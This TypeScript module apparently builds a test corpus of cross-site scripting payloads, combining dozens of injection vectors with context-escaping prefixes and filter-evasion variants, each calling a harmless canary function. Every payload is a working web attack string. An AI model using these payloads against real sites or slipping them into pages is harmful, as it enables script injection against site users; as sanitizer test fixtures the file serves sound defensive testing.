/** Texts that execute where a page treats text as markup: known vectors × contexts × variants. */

/** The function that each payload tries to call. */
export const CANARY = 'hit'

type Vector = (call: string) => string

/** Execute by themselves in a page without protection. */
const IMMEDIATE_VECTORS: ReadonlyArray<Vector> = [
  (call) => `<img src onerror=${call}>`,
  (call) => `<img src=1 onerror="${call}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script>${call}</script>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video src onerror=${call}>`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=data:, onerror=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (call) => `<noscript><p title="</noscript><img src onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${call}>">`,
  (call) => `<template><img src onerror=${call}></template>`,
]

/** Execute after a click, in another parser, or after a second decoding. */
const DELAYED_VECTORS: ReadonlyArray<Vector> = [
  (call) => `<a href=javascript:${call}>a</a>`,
  (call) => `<form action=javascript:${call}><button>b`,
  (call) => `<base href=//evil.test/>`.concat(call),
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => '${'.concat(call, '}'),
  (call) => `&lt;img src onerror=${call}&gt;`,
  (call) => `%3Cimg%20src%20onerror=${call}%3E`,
  (call) => `\\u003cimg src onerror=${call}\\u003e`,
  (call) => `__proto__[onerror]=${call}`,
  (call) => `"onmouseover=${call} x="`,
]

/** Contexts that a payload tries to leave. */
const CONTEXTS: ReadonlyArray<(payload: string) => string> = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `--></script>${payload}`,
  (payload) => `</textarea></style>${payload}`,
]

/** The same to a browser, different to a filter. */
const VARIANTS: ReadonlyArray<(payload: string) => string> = [
  (payload) => payload,
  (payload) => payload.replaceAll(/<([a-z]+)/g, (_, tag: string) => `<${tag.charAt(0).toUpperCase()}${tag.slice(1)}`),
  (payload) => payload.replaceAll(' ', '\n'),
  (payload) => payload.replaceAll('javascript:', 'java\tscript:'),
]

const call = `${CANARY}()`

const combinations = (vectors: ReadonlyArray<Vector>): ReadonlyArray<string> => [
  ...new Set(
    vectors.flatMap((vector) =>
      CONTEXTS.flatMap((context) => VARIANTS.map((variant) => variant(context(vector(call))))),
    ),
  ),
]

export const IMMEDIATE_PAYLOADS = combinations(IMMEDIATE_VECTORS)
export const PAYLOADS = [...IMMEDIATE_PAYLOADS, ...combinations(DELAYED_VECTORS)]
